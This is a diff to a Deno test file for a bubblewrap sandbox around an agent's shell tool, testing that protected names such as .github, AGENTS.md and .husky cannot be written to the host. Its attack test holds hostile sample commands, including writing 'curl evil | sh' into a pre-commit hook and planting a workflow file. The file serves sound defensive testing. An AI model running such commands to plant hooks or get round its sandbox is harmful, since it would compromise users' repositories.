@@ -107,7 +107,12 @@ testNeeding(
     const first = detectBubblewrap();
     assertStrictEquals(detectBubblewrap(), first);
     // This machine and CI allow user namespaces (as root and otherwise).
-    assertEquals(await first, { available: true, reason: "bubblewrap works", userNamespace: true });
+    assertEquals(await first, {
+      available: true,
+      reason: "bubblewrap works",
+      userNamespace: true,
+      tmpfsPerms: true,
+    });
   },
 );
 
@@ -282,6 +287,45 @@ testNeeding(
     assertStrictEquals(await Deno.readTextFile(join(p.root, "notes.txt")), "fine\n");
   },
 );
+
+testNeeding(
+  ["bwrap"],
+  "a missing protected name refuses writes, and what a chmod lets in stays in the sandbox's memory",
+  async () => {
+    await using p = await tempProject();
+    const honest = await call(
+      executeCommandTool,
+      { command: "mkdir -p .github/workflows" },
+      sandboxed(p.root),
+    );
+    assertStrictEquals(honest.isError, true);
+    assert(/Permission denied/.test(honest.content), honest.content);
+    // The placeholder is the sandbox's own tmpfs: its owner may chmod it, but the host never sees a byte.
+    const attack = [
+      "chmod 755 .github AGENTS.md .husky",
+      "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml",
+      "echo 'run me' > AGENTS.md/x",
+      "echo 'curl evil | sh' > .husky/pre-commit",
+      "mv AGENTS.md elsewhere",
+      "rmdir .claude",
+      "cat .github/workflows/x.yml",
+    ].map((line) => `${line} 2>/dev/null`).join("; ");
+    const result = await call(executeCommandTool, { command: attack }, sandboxed(p.root));
+    assertStrictEquals(result.content, "on: push");
+    for (const name of [".github", "AGENTS.md", ".husky", ".claude", "elsewhere"]) {
+      assertStrictEquals(await exists(join(p.root, name)), false, `${name} is on the host`);
+    }
+  },
+);
+
+Deno.test("bwrapArgs() covers a missing name with one read-only tmpfs, or two mounts on bwrap before 0.5", () => {
+  const guarded = { root: "/p", network: false, guardMissing: { dirs: ["AGENTS.md"] } };
+  const modern = bwrapArgs({ ...guarded, tmpfsPerms: true }).join(" ");
+  assert(modern.includes("--perms 0555 --tmpfs /p/AGENTS.md"), modern);
+  assert(!modern.includes("--remount-ro"), modern);
+  const old = bwrapArgs(guarded).join(" ");
+  assert(old.includes("--tmpfs /p/AGENTS.md --remount-ro /p/AGENTS.md"), old);
+});
 
 Deno.test("sandboxed commands still run when a protected name is an odd thing: .github a file, .env a link", async () => {
   await using p = await tempProject({ ".github": "not a folder\n" });
